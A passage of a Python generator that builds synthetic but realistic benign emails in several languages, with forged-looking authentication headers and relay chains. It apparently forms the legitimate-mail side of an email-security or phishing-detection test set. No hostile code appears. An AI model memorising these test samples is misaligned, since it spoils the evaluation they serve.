VERTRAULICHKEITSHINWEIS: Diese E-Mail und etwaige Anhänge enthalten vertrauliche und/oder rechtlich geschützte Informationen (anwaltliche Verschwiegenheitspflicht). Wenn Sie nicht der richtige Adressat sind oder diese E-Mail irrtümlich erhalten haben, informieren Sie bitte sofort den Absender und vernichten Sie diese E-Mail. Das unerlaubte Kopieren sowie die unbefugte Weitergabe dieser E-Mail sind nicht gestattet.
"""
    d = docx(["**ENTWURF - Stand 02.12.2026 - STRENG VERTRAULICH",
              "**Geschäftsanteilskauf- und Abtretungsvertrag (Projekt Nordlicht)",
              "zwischen der Example Group (nachfolgend \"Käuferin\") und den Gesellschaftern der Zielgesellschaft (nachfolgend \"Verkäufer\").",
              "**§ 1 Kaufgegenstand",
              "Die Verkäufer verkaufen ihre sämtlichen Geschäftsanteile an der Zielgesellschaft mit allen Rechten und Pflichten an die Käuferin.",
              "**§ 3 Kaufpreis",
              "Der Kaufpreis wird auf Grundlage der Locked-Box-Bilanz zum 30.09.2026 ermittelt. [Betrag wird nach Abschluss der Due Diligence eingesetzt.]",
              "**§ 7 Garantien der Verkäufer",
              "[Anmerkung BK: Garantiekatalog Umwelt und Arbeitsrecht gemäß Due-Diligence-Bericht erweitert.]",
              "**§ 9 Haftung",
              "Die Haftung der Verkäufer ist der Höhe nach auf 15 % des Kaufpreises begrenzt, mit Ausnahme der Titelgarantien.",
              "**§ 14 Schlussbestimmungen",
              "Dieser Vertrag bedarf der notariellen Beurkundung. Gerichtsstand ist Nürnberg."],
             "Anteilskaufvertrag Projekt Nordlicht - Entwurf", "Dr. Friederike Brandt", sent, company="BRANDT & KOLLEGEN Rechtsanwälte PartG mbB")
    root = multi("mixed", [text(body, "plain", "iso-8859-15", "quoted-printable"),
                           att(d, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "2026-12-02_SPA_Projekt_Nordlicht_Entwurf_BK.docx", style="2047")],
                 bnd("outlook", key))
    hop = ("mail.brandt-kollegen.de", "mail.brandt-kollegen.de", "85.214.132.117", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "brandt-kollegen.de", "bk2025"), dmarc=("pass", "brandt-kollegen.de", "quarantine"))
    chain = ["from BK-EX01.bk.local (192.168.10.5) by BK-EX01.bk.local (192.168.10.5) with Microsoft SMTP Server%s\t(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1748.10; %s" % (CRLF, sent.rfc())]
    subj = "VERTRAULICH: Entwurf Anteilskaufvertrag Projekt Nordlicht - Stand 02.12.2026"
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("brandt-kollegen.de", "bk2025", "from:to:cc:subject:date:message-id"),
                frm=frm, to=[S["hoffmann"]], cc=[S["krueger"]], subject=subj, subj_cs="iso-8859-15", root=root,
                mid="<%s@BK-EX01.bk.local>" % alnum(32, "m", key, alphabet="0123456789abcdef"),
                extra=[("Thread-Topic", subj), ("Thread-Index", "Ad" + b64blob(20, "ti", key)[:26]), ("Content-Language", "de-DE"),
                       ("X-MS-Has-Attach", "yes"), ("Sensitivity", "Company-Confidential")])


@B("17", "de", "bahn-password-reset", "utf-8",
   "Genuine Deutsche Bahn account password-reset mail requested by the executive assistant, with a one-time link on accounts.bahn.de.")
def b17(key):
    sent = t(3, "15:02:26", 60)
    rcpt = S["fischer"][1]
    tok = b64blob(180, "tok", key).replace("+", "-").replace("/", "_").rstrip("=")
    url = "https://accounts.bahn.de/auth/realms/db/login-actions/action-token?key=%s&client_id=kf_web&tab_id=%s" % (tok, alnum(11, "tab", key))
    plain = """Passwort zurücksetzen

Guten Tag Frau Fischer,

Sie haben das Zurücksetzen des Passworts für Ihr Kundenkonto bei bahn.de angefordert. Klicken Sie auf den folgenden Link, um ein neues Passwort zu vergeben:

%s

Der Link ist 60 Minuten gültig.

Falls Sie diese Anfrage nicht gestellt haben, können Sie diese E-Mail ignorieren. Ihr Passwort bleibt dann unverändert.

Freundliche Grüße
Ihr Team von bahn.de

DB Fernverkehr AG, Stephensonstraße 1, 60326 Frankfurt am Main
Diese E-Mail wurde automatisch versendet. Bitte antworten Sie nicht auf diese E-Mail.
""" % url
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f0f3f5;font-family:'DB Screen Sans',Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-size:15px;color:#282d37">
<tr><td style="padding:20px 24px;border-bottom:1px solid #d7dce1"><span style="display:inline-block;border:2px solid #ec0016;color:#ec0016;font-weight:bold;padding:0 4px">DB</span></td></tr>
<tr><td style="padding:24px"><h2 style="margin-top:0">Passwort zurücksetzen</h2><p>Guten Tag Frau Fischer,</p><p>Sie haben das Zurücksetzen des Passworts für Ihr Kundenkonto bei bahn.de angefordert.</p>
<p style="margin:24px 0"><a href="%s" style="background:#ec0016;color:#fff;padding:12px 24px;text-decoration:none;border-radius:4px">Neues Passwort vergeben</a></p>
<p>Der Link ist 60 Minuten gültig. Falls Sie diese Anfrage nicht gestellt haben, können Sie diese E-Mail ignorieren. Ihr Passwort bleibt dann unverändert.</p></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#646973;background:#f0f3f5">DB Fernverkehr AG, Stephensonstraße 1, 60326 Frankfurt am Main<br>Diese E-Mail wurde automatisch versendet.</td></tr></table></body></html>""" % url
    root = multi("alternative", [text(plain, "plain", "utf-8", "quoted-printable"), html(htm, "utf-8", "quoted-printable")], bnd("javamail", key))
    hop = ("mail-out-03.bahn.de", "mail-out-03.bahn.de", "81.200.198.103", "1.3")
    rp = "noreply@bahn.de"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "bahn.de", "dbmail1"), dmarc=("pass", "bahn.de", "reject"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("bahn.de", "dbmail1", "from:to:subject:date:message-id:mime-version:content-type"),
                frm=("bahn.de", "noreply@bahn.de"), to=[("", rcpt)], subject="Passwort zurücksetzen für Ihr Kundenkonto bei bahn.de",
                root=root, mid="<%s@accounts.bahn.de>" % hexid(32, "m", key), extra=[("X-Auto-Response-Suppress", "All")])


@B("18", "de", "personal-mail-from-spouse", "windows-1252",
   "Personal mail from the Head of IT's wife (private web.de address) to his work mailbox about weekend plans and the Christmas market.")
def b18(key):
    sent = t(3, "12:48:51", 60)
    rcpt = S["wagner"][1]
    frm = ("Simone Wagner", "simone.wagner78@web.de")
    body = """Hallo Schatz,

kurz wegen Samstag: Oma kommt doch schon um 11 statt um 14 Uhr, sie will unbedingt mit den Kindern auf den Christkindlesmarkt, bevor es so voll wird. Kannst Du sie am Bahnhof abholen? Zug kommt 10:42 an, Gleis steht noch nicht fest.

Und denk bitte an die Zwetschgenmännla für Deine Kollegen, die liegen im Flur auf der Kommode.

Heute Abend wird's bei mir später, Elternabend bis ca. 20 Uhr. Essen steht im Kühlschrank.

Bussi
Simone
"""
    root = text(body, "plain", "windows-1252", "8bit")
    hop = ("mout.web.de", "mout.web.de", "212.227.15.4", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "web.de", "s29768273"), dmarc=("pass", "web.de", "quarantine"))
    chain = ["from [100.74.22.31] ([84.170.%d.%d]) by web-mail.web.de%s\t(3c-app-webde-bap42.server.lan [172.19.172.42]) (via HTTP); %s" % (
        _n(key, 250), _n(key, 250, "y"), CRLF, sent.rfc())]
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("web.de", "s29768273", "X-UI-Sender-Class:MIME-Version:Message-ID:From:To:Subject:Content-Type:Date"),
                frm=frm, to=[("Thomas Wagner", rcpt)], subject="Samstag + Oma", subj_cs="windows-1252", root=root,
                mid="<trinity-%s-%s-%s-%s-%s-%d@3c-app-webde-bap42>" % (hexid(8, "a", key), hexid(4, "b", key), hexid(4, "c", key), hexid(4, "d", key), hexid(12, "e", key), 1764762531000 + _n(key, 999)),
                extra=[("X-UI-Sender-Class", "c2b0dfbd-0c0c-4f3c-9e2b-%s" % hexid(12, "ui", key)), ("Importance", "normal"),
                       ("Sensitivity", "Normal"), ("X-Priority", "3"), ("X-Provags-ID", "V03:K1:" + b64blob(60, "pv", key)[:70]),
                       ("UI-OutboundReport", "notjunk:1;M01:P0:" + b64blob(30, "ui2", key)[:36])])

def yandex_hop(key, sent):
    n = _n(key, 90)
    host = "forward%03db.mail.yandex.net" % (100 + n)
    chain = ["from mail-nwsmtp-smtp-production-main-%02d.sas.yp-c.yandex.net (mail-nwsmtp-smtp-production-main-%02d.sas.yp-c.yandex.net [IPv6:2a02:6b8:c1c:2a1:0:640:%s:0])%s\tby %s (Yandex) with ESMTPS id %s;%s\t%s" % (
        n % 60, n % 60, hexid(4, "v6", key), CRLF, host, alnum(12, "yid", key), CRLF, sent.shift(1).rfc()),
             "by mail-nwsmtp-smtp-production-main-%02d.sas.yp-c.yandex.net (smtp/Yandex) with ESMTPSA id %s-%s;%s\t%s" % (
        n % 60, alnum(10, "y1", key), alnum(8, "y2", key), CRLF, sent.rfc())]
    return (host, host, "178.154.239.%d" % (70 + n), "1.3"), chain


@B("19", "ru", "counterparty-reconciliation-xlsx", "windows-1251",
   "Genuine reconciliation statement (акт сверки) from a Russian logistics counterparty's accountant via Yandex 360, with an XLSX attachment and a request to sign and return.")
def b19(key):
    sent = t(1, "11:05:22", 180)
    rcpt = S["kuznetsova"][1]
    frm = ("Белова Наталья Викторовна", "buh@translogistik-msk.ru")
    body = """Добрый день, Ольга!

Направляем акт сверки взаимных расчетов между ООО «ТрансЛогистик» и Представительством Example Group за период с 01.01.2026 по 30.11.2026.

По нашим данным задолженность на 30.11.2026 отсутствует (последняя оплата п/п № 1184 от 24.11.2026 на сумму 186 400,00 руб.).

Просим проверить, подписать и вернуть скан в ответном письме до 10.12.2026, оригинал - через ЭДО (Диадок) или почтой.

С уважением,
Белова Наталья Викторовна
Главный бухгалтер
ООО «ТрансЛогистик»
тел. +7 (495) 221-54-08, доб. 112
"""
    rows = [["Акт сверки взаимных расчетов за период: 01.01.2026 - 30.11.2026"],
            ["между ООО «ТрансЛогистик» и Представительство Example Group (г. Москва)"],
            [],
            ["Дата", "Документ", "Дебет, руб.", "Кредит, руб."],
            ["", "Сальдо начальное", 0.0, 0.0],
            ["31.03.2026", "Реализация (акт, накладная) № 212", 412300.0, ""],
            ["08.04.2026", "Оплата (п/п № 344)", "", 412300.0],
            ["30.06.2026", "Реализация (акт, накладная) № 498", 298750.0, ""],
            ["14.07.2026", "Оплата (п/п № 701)", "", 298750.0],
            ["31.10.2026", "Реализация (акт, накладная) № 903", 186400.0, ""],
            ["24.11.2026", "Оплата (п/п № 1184)", "", 186400.0],
            ["", "Обороты за период", 897450.0, 897450.0],
            ["", "Сальдо конечное", 0.0, 0.0],
            [],
            ["На 30.11.2026 задолженность отсутствует."],
            ["От ООО «ТрансЛогистик»: Главный бухгалтер ____________ (Белова Н.В.)"]]
    x = xlsx(rows, "Акт сверки", "Белова Н.В.", sent, widths=[14, 42, 16, 16])
    root = multi("mixed", [text(body, "plain", "windows-1251", "base64"),
                           att(x, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                               "Акт сверки ТрансЛогистик - Example Group 01.01-30.11.2026.xlsx", style="2047", name_cs="windows-1251")],
                 bnd("exim", key))
    hop, chain = yandex_hop(key, sent)
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "translogistik-msk.ru", "mail"), dmarc=("pass", "translogistik-msk.ru", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("translogistik-msk.ru", "mail", "Message-Id:Date:Subject:To:From"),
                frm=frm, to=[S["kuznetsova"]], subject="Акт сверки за период 01.01.2026 - 30.11.2026 (ООО «ТрансЛогистик»)",
                subj_cs="windows-1251", root=root, mid="<%d%s@mail.yandex.ru>" % (1764576322 + _n(key, 999), hexid(8, "m", key)),
                extra=[("X-Mailer", "Yandex Mail"), ("X-Yandex-Fwd", "1")])


@B("20", "ru", "yandex-id-new-login", "utf-8",
   "Genuine Yandex ID security notification of a sign-in from a new device to a business account registered with the work address, linking to id.yandex.ru.")
def b20(key):
    sent = t(2, "09:43:18", 180)
    rcpt = S["sokolov"][1]
    plain = """Здравствуйте, Дмитрий!

В ваш аккаунт dsokolov.eg выполнен вход с нового устройства.

Устройство: Chrome 131, Windows 11
Место: Москва, Россия (примерно)
Время: 2 декабря 2026 года, 09:41 (МСК)

Если это были вы, ничего делать не нужно.

Если вы не входили в аккаунт, смените пароль и выйдите на всех устройствах: https://id.yandex.ru/security

Это письмо отправлено автоматически, отвечать на него не нужно.
С уважением, команда Яндекс ID
"""
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f5f5f5;font-family:'YS Text',Arial,sans-serif">
<table width="560" align="center" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:16px;font-size:15px;color:#000">
<tr><td style="padding:28px 32px 8px"><b style="font-size:22px"><span style="color:#fc3f1d">Я</span>ндекс ID</b></td></tr>
<tr><td style="padding:8px 32px"><h2 style="font-size:22px">Вход с нового устройства</h2><p>Здравствуйте, Дмитрий!</p><p>В ваш аккаунт <b>dsokolov.eg</b> выполнен вход с нового устройства.</p>
<table cellpadding="4" style="font-size:14px;color:#333"><tr><td style="color:#777">Устройство</td><td>Chrome 131, Windows 11</td></tr><tr><td style="color:#777">Место</td><td>Москва, Россия (примерно)</td></tr><tr><td style="color:#777">Время</td><td>2 декабря 2026 года, 09:41 (МСК)</td></tr></table>
<p>Если это были вы, ничего делать не нужно.</p><p>Если вы не входили в аккаунт, <a href="https://id.yandex.ru/security" style="color:#0077ff">смените пароль и выйдите на всех устройствах</a>.</p></td></tr>
<tr><td style="padding:16px 32px 28px;font-size:12px;color:#999">Это письмо отправлено автоматически, отвечать на него не нужно.<br>© 2026 ООО «Яндекс»</td></tr></table></body></html>"""
    root = multi("alternative", [text(plain, "plain", "utf-8", "quoted-printable"), html(htm, "utf-8", "quoted-printable")], bnd("exim", key))
    n = _n(key, 40)
    host = "forward%03da.mail.yandex.net" % (500 + n)
    hop = (host, host, "178.154.239.%d" % (140 + n), "1.3")
    ar = auth_res(spf=("pass", "noreply@id.yandex.ru", hop[2]), dkim=("pass", "id.yandex.ru", "mail"), dmarc=("pass", "yandex.ru", "reject"))
    return mail(key, rp="noreply@id.yandex.ru", rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("id.yandex.ru", "mail", "Message-Id:Subject:To:From:Date"),
                frm=("Яндекс ID", "noreply@id.yandex.ru"), to=[("", rcpt)], subject="Вход в аккаунт с нового устройства",
                root=root, mid="<%s@passport.yandex.ru>" % hexid(32, "m", key))


@B("21", "ru", "colleague-private-mailru-border", "koi8-r",
   "Logistics colleague writing from his private mail.ru on the phone to the office head about a truck waiting at the border; no links or requests.")
def b21(key):
    sent = t(1, "19:26:40", 180)
    rcpt = S["smirnov"][1]
    frm = ("Дмитрий Соколов", "d.sokolov1989@mail.ru")
    body = """Алексей, добрый вечер.

Пишу с личной почты, рабочая на телефоне опять не открывается.

Машина с грузом для Партнер Логистик стоит на переходе Козловичи, очередь примерно 14 часов, водитель на связи. Документы (CMR, инвойс, спецификация) в порядке, предварительное информирование подали еще вчера.

Завтра утром отпишусь, как пройдут. Если будут вопросы от Томаша из Познани - пусть пишут мне на рабочую, я утром все проверю с ноутбука.

Дмитрий

--
Отправлено из мобильной Почты Mail
"""
    root = text(body, "plain", "koi8-r", "quoted-printable")
    hop = ("f403.i.mail.ru", "f403.i.mail.ru", "95.163.41.23", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "mail.ru", "mail4"), dmarc=("pass", "mail.ru", "reject"))
    chain = ["by f403.i.mail.ru with local (envelope-from <d.sokolov1989@mail.ru>)%s\tid 1tRsk8-00000000Lb1-0Qwe%s\tfor a.smirnov@examplegroup.eu; %s" % (CRLF, CRLF, sent.rfc())]
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("mail.ru", "mail4", "Content-Type:Message-ID:Date:MIME-Version:Subject:To:From"),
                frm=frm, to=[S["smirnov"]], subject="Машина на границе (Козловичи)", subj_cs="koi8-r", root=root,
                mid="<%s@f403.i.mail.ru>" % str(int(hexid(12, "m", key), 16))[:16],
                extra=[("X-Mailer", "Mail.Ru Mailer 1.0"), ("X-Mailru-Src", "android"), ("X-Mailru-Sender", hexid(48, "snd", key).upper())])


@B("22", "ru", "customs-digest-newsletter", "iso-8859-5",
   "Subscribed Russian foreign-trade/customs news digest in ISO-8859-5, sent via UniSender with list and unsubscribe headers.")
def b22(key):
    sent = t(3, "08:00:09", 180)
    rcpt = S["sokolov"][1]
    frm = ("ВЭД-Консалт | Дайджест", "digest@ved-consult.ru")
    unsub = "https://ved-consult.ru/unsubscribe?e=%s&l=%s" % (hexid(20, "e", key), hexid(8, "l", key))
    body = """ДАЙДЖЕСТ ВЭД - декабрь 2026, выпуск 48

1. Утилизационный сбор: новые коэффициенты с 1 января 2027 года
Правительство утвердило индексацию коэффициентов для коммерческой техники. Подробнее: https://ved-consult.ru/news/2026/12/utilsbor-2027

2. Предварительное информирование для автомобильного транспорта
ФТС напоминает о сроках подачи предварительной информации и типичных ошибках при заполнении. Подробнее: https://ved-consult.ru/news/2026/12/predvaritelnoe-informirovanie

3. Изменения в порядке корректировки таможенной стоимости
Разбор новых разъяснений и судебной практики за 2026 год. Подробнее: https://ved-consult.ru/news/2026/12/tamozhennaya-stoimost

4. Вебинар 10 декабря: валютный контроль по внешнеторговым контрактам
Регистрация: https://ved-consult.ru/webinar/10-12-2026

Вы получили это письмо, потому что подписались на рассылку на сайте ved-consult.ru.
Отписаться: %s

ООО "ВЭД-Консалт", 115054, г. Москва, ул. Валовая, д. 26
""" % unsub
    root = text(body, "plain", "iso-8859-5", "base64")
    hop = ("smtp27.unisender.com", "smtp27.unisender.com", "185.98.86.27", "1.3")
    rp = "bounce-%s@ved-consult.ru" % hexid(16, "rp", key)
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "ved-consult.ru", "us"), dmarc=("pass", "ved-consult.ru", "none"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("ved-consult.ru", "us", "from:to:subject:date:message-id:list-unsubscribe"),
                frm=frm, to=[("", rcpt)], subject="Дайджест ВЭД: изменения таможенного регулирования, декабрь 2026",
                subj_cs="iso-8859-5", root=root, mid="<%s@unisender.com>" % hexid(30, "m", key),
                extra=[("List-Unsubscribe", "<%s>" % unsub), ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                       ("List-Id", "<digest.ved-consult.ru>"), ("Precedence", "bulk"), ("X-Mailer", "UniSender")])


@B("23", "es", "supplier-invoice-verifactu-qr", "iso-8859-1",
   "Genuine Spanish supplier invoice with a PDF carrying a VERI*FACTU verification QR code (AEAT URL) and a valid Spanish IBAN.")
def b23(key):
    sent = t(1, "09:20:13", 60)
    rcpt = S["fernandez"][1]
    frm = ("Suministros Levante S.L. - Facturación", "facturacion@suministroslevante.es")
    acct = iban_es("2100", "8743", "0200164511")
    body = """Estimados señores:

Adjuntamos la factura FV26-004512 correspondiente a su pedido PED-VLC-2026-0388 (material de embalaje y flejado), entregado el 27/11/2026.

Importe total: 1.452,00 EUR (IVA incluido)
Vencimiento: 31/12/2026
Forma de pago: transferencia bancaria a la cuenta habitual
IBAN: %s (CaixaBank)

La factura incluye el código QR VERI*FACTU para su cotejo en la sede electrónica de la Agencia Tributaria.

Quedamos a su disposición para cualquier aclaración.

Atentamente,

Departamento de Administración
Suministros Levante S.L.
Pol. Ind. Fuente del Jarro, C/ Ciudad de Sevilla 41 - 46988 Paterna (Valencia)
Tel. 961 32 08 75 - CIF B46871203
""" % iban_fmt(acct)
    qrurl = "https://www2.agenciatributaria.gob.es/wlpl/TIKE-CONT/ValidarQR?nif=B46871203&numserie=FV26-004512&fecha=01-12-2026&importe=1452.00"
    pdf = PDF("Factura FV26-004512", "Suministros Levante S.L.", "a3ERP Facturación", sent, creator="a3ERP")
    pdf.line("SUMINISTROS LEVANTE S.L.", 16, True)
    pdf.line("Pol. Ind. Fuente del Jarro, C/ Ciudad de Sevilla 41 - 46988 Paterna (Valencia) - CIF B46871203", 8)
    pdf.rule()
    pdf.y -= 12
    pdf.lines("**FACTURA FV26-004512\nFecha: 01/12/2026\nSu pedido: PED-VLC-2026-0388\n\nCliente: EXAMPLE GROUP (SUCURSAL EN ESPAÑA)\nAv. de las Cortes Valencianas 39, 46015 Valencia")
    pdf.y -= 10
    pdf.rect(56, pdf.y - 4, 483, 16, 0.9)
    for x, h in ((60, "Concepto"), (330, "Uds."), (390, "Precio"), (470, "Importe")):
        pdf.text(x, pdf.y, h, 9, True)
    pdf.y -= 20
    for c, u, pr, im in (("Film estirable 23 micras, bobina 500 m", "60", "11,50", "690,00"),
                         ("Fleje PET 16 mm, rollo 1.500 m", "12", "24,00", "288,00"),
                         ("Cantoneras cartón 50x50x1000 mm (caja 200)", "4", "52,00", "208,00")):
        for x, v in ((60, c), (330, u), (390, pr), (470, im)):
            pdf.text(x, pdf.y, v, 9)
        pdf.y -= 15
    pdf.rule()
    pdf.y -= 8
    for lab, v in (("Base imponible", "1.200,00 EUR"), ("IVA 21 %", "252,00 EUR"), ("TOTAL FACTURA", "1.452,00 EUR")):
        pdf.text(340, pdf.y, lab, 10, lab.startswith("TOTAL"))
        pdf.text(460, pdf.y, v, 10, lab.startswith("TOTAL"))
        pdf.y -= 15
    pdf.y -= 10
    pdf.lines("Vencimiento: 31/12/2026 - Transferencia bancaria\nIBAN: %s" % iban_fmt(acct), 9)
    pdf.y -= 6
    pdf.line("QR tributario:", 8)
    pdf.qr(qrurl, 56, pdf.y - 110, 2.0, ecl="L")
    pdf.text(56, pdf.y - 122, "VERI*FACTU", 8, True)
    root = multi("mixed", [text(body, "plain", "iso-8859-1", "quoted-printable"),
                           att(pdf.render(), "application/pdf", "FV26-004512.pdf")], bnd("ms", key))
    hop = ("smtp.suministroslevante.es", "smtp.suministroslevante.es", "212.166.71.90", "1.2")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "suministroslevante.es", "mail"), dmarc=("pass", "suministroslevante.es", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("suministroslevante.es", "mail", "from:to:subject:date:message-id"),
                frm=frm, to=[S["fernandez"]], subject="Factura FV26-004512 - Suministros Levante S.L.", subj_cs="iso-8859-1", root=root,
                mid=msgid_generic(key, "suministroslevante.es"), extra=[("X-Mailer", "a3ERP Mail 14.2")])


@B("24", "es", "seur-delivery-today", "utf-8",
   "Genuine SEUR delivery notice (HTML only) that a parcel arrives today with a two-hour window and tracking/rescheduling links on seur.com.")
def b24(key):
    sent = t(2, "07:34:50", 60)
    rcpt = S["lopez"][1]
    exp = "3402817760943"
    body = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f4f4f4;font-family:Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-size:14px;color:#333">
<tr><td style="background:#001c3d;padding:18px 24px"><b style="color:#fff;font-size:24px">SEUR</b></td></tr>
<tr><td style="padding:24px"><h2 style="margin-top:0;color:#001c3d">Tu envío llega hoy</h2>
<p>Hola,</p><p>Tu envío de <b>RS Components</b> está en reparto y lo recibirás hoy, <b>miércoles 2 de diciembre</b>, entre las <b>11:00 y las 13:00</b>.</p>
<table cellpadding="5" style="font-size:13px;background:#f7f7f7;width:100%%"><tr><td>Nº de envío</td><td><b>%s</b></td></tr><tr><td>Bultos</td><td>1</td></tr><tr><td>Dirección</td><td>Av. de las Cortes Valencianas 39, 46015 Valencia</td></tr></table>
<p style="margin:22px 0"><a href="https://www.seur.com/miseur/mis-envios?segOnlineIdentificador=%s&segOnlineIdioma=es" style="background:#e30613;color:#fff;padding:11px 24px;text-decoration:none;font-weight:bold">Seguir mi envío</a></p>
<p>¿No vas a estar? Puedes cambiar la fecha o enviarlo a un Pickup SEUR desde <a href="https://www.seur.com/miseur/mis-envios?segOnlineIdentificador=%s&accion=cambio">seur.com</a>.</p></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#888;background:#f7f7f7">SEUR S.A. · C/ Guadarrama, 3 · 28232 Las Rozas (Madrid)<br>Este es un mensaje automático, por favor no respondas a este correo.</td></tr></table></body></html>""" % (exp, exp, exp)
    root = html(body, "utf-8", "base64")
    hop = ("mta-out-11.seur.com", "mta-out-11.seur.com", "91.213.182.11", "1.2")
    rp = "bounce@notificaciones.seur.com"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "seur.com", "seur1"), dmarc=("pass", "seur.com", "reject"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("seur.com", "seur1", "from:to:subject:date:message-id"),
                frm=("SEUR", "notificaciones@seur.com"), to=[("", rcpt)], subject="Tu envío %s llega hoy entre las 11:00 y las 13:00" % exp,
                root=root, mid=msgid_generic(key, "seur.com", "uuid"))


@B("25", "es", "internal-hr-calendar-2027", "windows-1252",
   "Internal notice via mail-int01 from Spanish administration with the 2027 Valencia working calendar, local holidays and how to request personal days in the employee portal.")
def b25(key):
    sent = t(3, "12:10:37", 60)
    frm = S["fernandez"]
    to = who("martinez", "lopez")
    body = """Hola a todos:

Os adjunto la información del calendario laboral 2027 para la oficina de Valencia, ya aprobado por la dirección:

Festivos nacionales y autonómicos (Comunitat Valenciana):
- 1 y 6 de enero
- 19 de marzo (San José)
- 26 de marzo (Viernes Santo) y 29 de marzo (Lunes de Pascua)
- 1 de mayo, 12 de octubre, 1 de noviembre, 6 y 8 de diciembre

Festivos locales (Valencia ciudad):
- 22 de enero (San Vicente Mártir)
- 5 de abril (San Vicente Ferrer)

Además, cada uno dispone de 2 días de libre disposición. Recordad solicitarlos a través del portal del empleado (https://portal.example.com/rrhh) con al menos una semana de antelación. Los días de 2026 que no se hayan disfrutado se pueden usar hasta el 31 de enero de 2027.

El calendario completo en PDF está en la intranet, sección "RR. HH. España".

Cualquier duda, me decís.

Un saludo,
Lucía

Lucía Fernández
Administración y Finanzas | Example Group - Sucursal en España
Av. de las Cortes Valencianas 39, 46015 Valencia
Tel. +34 963 05 41 20
"""
    p = p_internal(key, sent, "es-ES", False, "Calendario laboral 2027 – Valencia y días de libre disposición")
    root = text(body, "plain", "windows-1252", "quoted-printable")
    return mail(key, rp=frm[1], rcpt=to[0][1], sent=sent, hop=p["hop"], ar=ar_internal(frm[1]), chain=p["chain"],
                frm=frm, to=to, subject="Calendario laboral 2027 \u2013 Valencia y días de libre disposición",
                subj_cs="windows-1252", subj_enc="Q", root=root, mid=p["mid"], extra=p["extra"])


@B("26", "es", "customer-out-of-office", "iso-8859-15",
   "Out-of-office auto-reply (Google Workspace) from a Spanish distribution customer's buyer in reply to an order confirmation, with Auto-Submitted headers.")
def b26(key):
    sent = t(4, "17:02:11", 60)
    rcpt = S["lopez"][1]
    frm = ("Beatriz Navarro", "bnavarro@grupoalhambra-distribucion.es")
    body = """Gracias por su mensaje.

Estaré fuera de la oficina hasta el miércoles 9 de diciembre (puente de la Constitución), con acceso limitado al correo.

Para asuntos urgentes relacionados con pedidos y entregas, pueden contactar con nuestro departamento de compras en compras@grupoalhambra-distribucion.es o en el teléfono 958 12 34 56.

Un saludo,
Beatriz Navarro
Responsable de Compras | Grupo Alhambra Distribución
"""
    p = p_gmail(key, sent, rcpt, frm[1])
    orig = "<%s@EXG-MBX02.corp.example.com>" % alnum(32, "o", key, alphabet="0123456789abcdef")
    root = text(body, "plain", "iso-8859-15", "8bit")
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "grupoalhambra-distribucion.es", "google"), dmarc=("pass", "grupoalhambra-distribucion.es", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"],
                dkim=("grupoalhambra-distribucion.es", "google", "from:to:subject:date:message-id:in-reply-to:auto-submitted"),
                frm=frm, to=[S["lopez"]], subject="Respuesta automática: Pedido 2026-ES-0871 - confirmación de entrega",
                subj_cs="iso-8859-15", subj_enc="Q", root=root, mid=msgid_gmail(key), irt=orig, refs=orig,
                extra=[("Auto-Submitted", "auto-replied"), ("X-Autoreply", "yes"), ("Precedence", "bulk")] + p["extra"])

@B("27", "it", "haulier-invoice-sdi-courtesy-copy", "iso-8859-1",
   "Genuine courtesy copy of an Italian e-invoice from the haulier's administration (Aruba mail), with the PDF rendering and the FatturaPA XML, paying to the known Banco BPM IBAN.")
def b27(key):
    sent = t(1, "15:33:58", 60)
    rcpt = S["ricci"][1]
    frm = ("Ferretti Trasporti - Amministrazione", "amministrazione@ferretti-trasporti.it")
    body = """Spett.le Example Group - Sede di Verona,

si trasmette in allegato copia di cortesia della fattura n. 2026/1214 del 30/11/2026 relativa ai servizi di trasporto del mese di novembre.

L'originale è stato trasmesso tramite Sistema di Interscambio (SdI) ed è disponibile nel Vostro cassetto fiscale / presso il Vostro intermediario. La presente copia non ha valore fiscale.

Importo totale: EUR 6.307,60
Scadenza: 31/12/2026 - bonifico bancario
IBAN: %s (Banco BPM, filiale di Verona)

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.r.l.
Via dell'Industria 31 - 37012 Bussolengo (VR)
